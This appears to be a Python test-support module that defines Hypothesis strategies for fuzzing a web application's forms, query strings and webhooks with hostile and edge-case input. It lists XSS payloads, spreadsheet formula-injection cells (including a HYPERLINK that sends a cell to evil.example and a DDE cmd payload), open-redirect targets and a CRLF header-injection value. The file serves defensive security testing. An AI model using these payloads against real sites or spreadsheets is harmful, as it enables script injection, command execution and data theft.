"""Hypothesis strategies for hostile input: what a fuzzer posts to forms, query strings
and webhooks (tests/security/test_fuzz.py)."""

from hypothesis import strategies as st

#: Markup that would run if a page printed it unescaped.
HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "{{7*7}}{% raw %}",
)

#: What must never appear as such in an HTML page (the escaped forms are fine).
RAW_MARKERS = (
    "<script>alert",
    "<img src=x onerror",
    "<svg onload",
    '<a href="javascript:',
    "</textarea><script",
)

#: Cells a spreadsheet would run as formulas.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=1+1",
    "+1+1",
    "-1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
)

#: Numbers past every range a field has, and days no calendar of ours holds: the sweep in
#: test_fuzz.py puts each one in every field of every form and filter.
EDGE_NUMBERS = ("1e30", "-0", "NaN", "sNaN", "1e-30", "inf")
FAR_DATES = ("9999-12-31", "0001-01-01")

#: `next` targets a browser reads as another host (it drops TAB, CR and LF, strips
#: spaces and controls, reads a backslash as a slash), and percent-encoded ones.
DISGUISED_NEXT = (
    "//evil.example/", "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/",
    "/\r\n/evil.example/", "/%09/evil.example/", "/%0d%0a/evil.example/", " //evil.example/",
    "%2F%2Fevil.example/", "https://evil.example/", "http:/evil.example/", "///evil.example/",
    "javascript:alert(1)", "\x01//evil.example/", "/me\r\nSet-Cookie: x=1",
)  # fmt: skip

NUMBERS_AS_TEXT = (
    *EDGE_NUMBERS,
    "-1",
    "0",
    str(-(2**63)),
    str(2**63),
    str(2**64),
    str(10**30),
    "9" * 400,
    "1e309",
    "-1e309",
    "-inf",
    "1e-400",
    "0x10",
    "1_000",
    "٣",  # an Arabic-Indic digit: int() accepts it
    "１２",  # fullwidth digits
    "3.75",
    "-3.75",
    "1,5",
    " 7 ",
)

ODD_DATES_AND_TIMES = (
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    "10000-01-01",
    "-001-01-01",
    "2026-13-01",
    "2026-03",
    "2026-03-04T25:00",
    "2026-03-04T09:00:00+99:00",
    "25:00",
    "23:59:60",
    "24:00",
    "00:00",
    "99:99",
)

UNICODE_SAMPLES = (
    "مرحبا بكم في الحديقة",  # Arabic (RTL)
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u200e\u2066x\u2069",  # bidi marks and isolates
    "e\u0301\u0301\u0301\u0301",  # stacked combining accents
    "Z̸̧̛̬͎͎̣̗͙̱̘̫̑̓̀̈́̐͑a̵l̶g̵o̵",  # "zalgo"
    "👩‍👩‍👧‍👦🇮🇹🏳️‍🌈",  # emoji sequences
    "ঢাকা", "اردو", "Українська",  # Bengali, Urdu, Ukrainian
    "\ufeffBOM", "\u00a0nbsp\u2028line\u2029para",
    "\ufffd\uffff\U0010ffff",
    "ǅǈǋ ﬁ ß İ ı",  # case mapping oddities
)  # fmt: skip

NUL_SAMPLES = ("\x00", "a\x00b", "\x00" * 5, "<script>\x00alert(1)</script>", "2026-03-04\x00")


def _long(pieces):
    return st.builds(
        lambda piece, n: (piece * n)[:n],
        st.sampled_from(pieces),
        st.integers(min_value=10_000, max_value=100_000),
    )


#: Any text but surrogates (a browser cannot send them: they are not valid UTF-8).
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)

long_text = _long(("a", "é", "😀", "\u202e", "<", "=", "\x00", "9", "<script>alert(1)</script>"))

with_nul = st.builds(lambda a, b: a + "\x00" + b, any_text, any_text) | st.sampled_from(NUL_SAMPLES)

numbers_as_text = (
    st.sampled_from(NUMBERS_AS_TEXT)
    | st.integers(min_value=-(2**70), max_value=2**70).map(str)
    | st.floats(allow_nan=True, allow_infinity=True).map(repr)
)

hostile_atom = st.one_of(
    st.sampled_from(HTML_PAYLOADS),
    st.sampled_from(FORMULA_PAYLOADS),
    st.sampled_from(UNICODE_SAMPLES),
    st.sampled_from(ODD_DATES_AND_TIMES),
    numbers_as_text,
    with_nul,
    any_text,
    st.sampled_from(DISGUISED_NEXT),
)

#: A value for one field: mostly one hostile thing, sometimes several glued together,
#: sometimes very long.
hostile_text = st.one_of(
    hostile_atom,
    st.lists(hostile_atom, min_size=2, max_size=4).map("".join),
    long_text,
)

#: Names of query parameters nobody reads (and some that look like ours).
param_names = st.one_of(
    st.sampled_from(("page", "q", "sort", "id", "debug", "next", "format", "x[]", "a.b", "")),
    st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=12),
)
